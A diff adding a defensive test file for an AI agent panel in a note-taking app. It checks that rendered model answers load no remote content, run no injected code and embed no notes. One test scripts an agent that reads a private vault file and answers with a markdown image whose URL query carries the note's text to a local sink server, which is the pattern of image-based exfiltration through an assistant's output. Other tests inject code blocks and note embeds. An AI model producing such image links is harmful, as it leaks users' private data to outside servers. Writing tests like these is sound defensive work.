@@ -1,0 +1,215 @@
+/**
+ * What a model says, as the panel draws it: nothing is loaded, run or opened by it, and a person sees all of it. The
+ * ways are those of the core's own suite.
+ */
+import { readFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import type { Page, Request } from "playwright-core";
+import { afterAll, describe, expect, onTestFinished, test } from "vitest";
+import { calls, says, startAgentModel, type Turns } from "./agent_model";
+import { hashFolder, openNote, repository } from "./harness";
+import { eventually, ideas, leave, sitDown, type Person, type Seat } from "./person";
+
+afterAll(leave);
+
+interface Way {
+	name: string;
+	text: string;
+}
+
+const ways = JSON.parse(
+	readFileSync(join(repository, "wasm/internal/answer/testdata/ways.json"), "utf8"),
+) as Way[];
+
+const pixel = Buffer.from(
+	"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==",
+	"base64",
+);
+
+/** A server that nothing may ask, and what was asked of it. */
+interface Sink {
+	url: string;
+	asked: string[];
+	/** The ways, each with an address of its own at this server. */
+	ways: Way[];
+}
+
+async function openSink(): Promise<Sink> {
+	const asked: string[] = [];
+	const server = createServer((request, response) => {
+		asked.push(request.url ?? "");
+		response.writeHead(200, { "content-type": "image/png", "access-control-allow-origin": "*" }).end(pixel);
+	});
+	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+	onTestFinished(() => {
+		server.closeAllConnections();
+		return new Promise<void>((resolve) => server.close(() => resolve()));
+	});
+	const bare = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+	const url = `http://${bare}`;
+	const filled = ways.map(({ name, text }) => {
+		const own = `${url}/p.png?way=${encodeURIComponent(name).replaceAll("'", "%27")}`;
+		const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${own}"/></svg>`);
+		const data: Record<string, string> = { url: own, bare, svg: svg.toString("base64") };
+		return { name, text: text.replace(/\{(url|bare|svg)\}/g, (_, key: string) => data[key] ?? "") };
+	});
+	return { url, asked, ways: filled };
+}
+
+/** What the page asks of anybody but the app's own server and the model's. */
+function watchRequests(person: Person, ...own: string[]): string[] {
+	const foreign: string[] = [];
+	const origins = [person.playground.url, ...own].map((url) => new URL(url).origin);
+	const heard = (request: Request) => {
+		const url = request.url();
+		if (!origins.some((origin) => url.startsWith(origin)) && !/^(blob|data):/.test(url)) foreign.push(url);
+	};
+	person.playground.context.on("request", heard);
+	return foreign;
+}
+
+async function seatWith(turns: Turns, options?: Seat): Promise<{ person: Person; model: string }> {
+	const model = await startAgentModel(turns);
+	onTestFinished(() => model.close());
+	const person = await sitDown({ ...options, settings: { demoModelUrl: model.url, ...options?.settings } });
+	onTestFinished(() => person.standUp());
+	return { person, model: model.url };
+}
+
+const articles = (person: Person) => person.panel.getByRole("article");
+
+/** Says something and waits for the end of the answer. */
+async function ask(person: Person, text: string): Promise<void> {
+	const before = await articles(person).count();
+	const message = person.panel.getByRole("textbox", { name: "Message" });
+	await message.fill(text);
+	await message.press("Enter");
+	await eventually(() => articles(person).count()).toBe(before + 1);
+	await articles(person).last().getByRole("button", { name: "Copy reply" }).waitFor();
+}
+
+/** Moves the pointer over all that an answer draws, and the keyboard's focus to it. */
+async function touchEverything(page: Page): Promise<void> {
+	await page.evaluate(() => {
+		for (const el of document.querySelectorAll<HTMLElement>(".ea-reply *, .ea-review *, .ea-history-run *")) {
+			for (const type of ["pointerover", "mouseover", "pointerenter", "mouseenter", "mousemove"])
+				el.dispatchEvent(new MouseEvent(type, { bubbles: true }));
+			if (el.tabIndex >= 0) el.focus();
+		}
+	});
+	for (const link of await page.locator(".ea-reply [role=link]").all())
+		if (await link.isVisible()) await link.hover();
+}
+
+/** Whatever was begun before has been asked by the time that this comes back. */
+async function quiet(person: Person, sink: Sink): Promise<void> {
+	await person.page.evaluate(async (url) => {
+		await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
+		await fetch(url);
+		await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
+		await fetch(url);
+	}, `${sink.url}/control`);
+}
+
+/** Elements and attributes of the panel that could load something, or run. */
+function couldLoad(page: Page): Promise<string[]> {
+	return page.evaluate(() => {
+		const found: string[] = [];
+		const attributes = /^(on.*|src|srcset|poster|background|href|xlink:href|data|action|formaction|srcdoc|style|ping)$/i;
+		for (const el of document.querySelectorAll(".ea-reply, .ea-reply *")) {
+			const name = el.tagName.toLowerCase();
+			if (/^(img|video|audio|source|track|iframe|frame|object|embed|link|style|script|base|meta|form|math|picture|template)$/.test(name))
+				found.push(name);
+			const own = el.closest(".ea-icon, .svg-icon") !== null;
+			for (const { name: attribute, value } of el.attributes)
+				if (attributes.test(attribute) && !own) found.push(`${name} ${attribute}=${value}`);
+		}
+		return found;
+	});
+}
+
+const remote = (sink: Sink) => [...new Set(sink.asked)].filter((url) => url !== "/control");
+
+describe("an answer", () => {
+	test(`in any of ${ways.length} ways loads nothing: while it streams, when it is there, after a restart, out of the list, under the pointer`, async () => {
+		const sink = await openSink();
+		const { person, model } = await seatWith((n) => [says(sink.ways[n]?.text ?? "No more.")]);
+		const foreign = watchRequests(person, model);
+		for (const way of sink.ways) await ask(person, way.name);
+		const silent = async () => {
+			await touchEverything(person.page);
+			await quiet(person, sink);
+			expect(remote(sink)).toEqual([]);
+			expect(foreign.filter((url) => !url.endsWith("/control"))).toEqual([]);
+			expect(await couldLoad(person.page)).toEqual([]);
+		};
+		await silent();
+
+		await person.restart();
+		await eventually(() => articles(person).count()).toBe(sink.ways.length);
+		await eventually(() => person.panel.locator(".ea-reply").count()).toBe(sink.ways.length);
+		await silent();
+
+		await person.button("New conversation").click();
+		await person.button("Conversations").click();
+		await person.panel.getByRole("list", { name: "Conversations" }).getByRole("listitem").getByRole("button").first().click();
+		await eventually(() => articles(person).count()).toBe(sink.ways.length);
+		await silent();
+	}, 300_000);
+
+	test("of an agent that has read a secret takes it nowhere", async () => {
+		const sink = await openSink();
+		const { person, model } = await seatWith([
+			[calls("vault.readFile", { path: ideas.path })],
+			[says(`Done. ![ok](${sink.url}/p.png?d=Tomato%20trellis)`)],
+		]);
+		const foreign = watchRequests(person, model);
+		await person.panel.getByRole("radio", { name: "Agent" }).check({ force: true });
+		await ask(person, "Tidy up");
+		await quiet(person, sink);
+		expect(remote(sink)).toEqual([]);
+		await person.restart();
+		await person.panel.getByText("Done.").waitFor();
+		await quiet(person, sink);
+		expect(remote(sink)).toEqual([]);
+		expect(foreign.filter((url) => !url.endsWith("/control"))).toEqual([]);
+	});
+
+	test("runs no code of other plugins, and opens no note", async () => {
+		const blocks = ["dataviewjs", "dataview", "tasks", "js-engine", "button", "query", "mermaid"];
+		const text = [
+			...blocks.map((name) => `\`\`\`${name}\nwindow.ranFromAnswer = true\n\`\`\``),
+			`![[${ideas.path}]]`,
+			"![[Ideas for the garden]]",
+			"`$= window.ranFromAnswer = true` and `= this.file`",
+		].join("\n\n");
+		const { person } = await seatWith([[says(text)]]);
+		await person.page.evaluate((names) => {
+			const { plugins } = window.app as unknown as {
+				plugins: {
+					plugins: Record<
+						string,
+						{
+							registerMarkdownCodeBlockProcessor(name: string, run: () => void): void;
+							registerMarkdownPostProcessor(run: () => void): void;
+						}
+					>;
+				};
+			};
+			const other = plugins.plugins["embedded-agent"];
+			const ran = () => document.body.setAttribute("data-ran", "yes");
+			for (const name of names) other?.registerMarkdownCodeBlockProcessor(name, ran);
+			other?.registerMarkdownPostProcessor(ran);
+		}, blocks);
+		await ask(person, "Show me");
+		const reply = person.panel.locator(".ea-reply");
+		await reply.getByText("window.ranFromAnswer = true").first().waitFor();
+		expect(await person.page.locator("body[data-ran]").count()).toBe(0);
+		expect(await reply.locator(".internal-embed, .markdown-embed").count()).toBe(0);
+		expect(await reply.innerText()).not.toContain("Tomato trellis");
+		expect(await reply.innerText()).toContain(ideas.path);
+		expect(person.playground.errors).toEqual([]);
+	});
+});
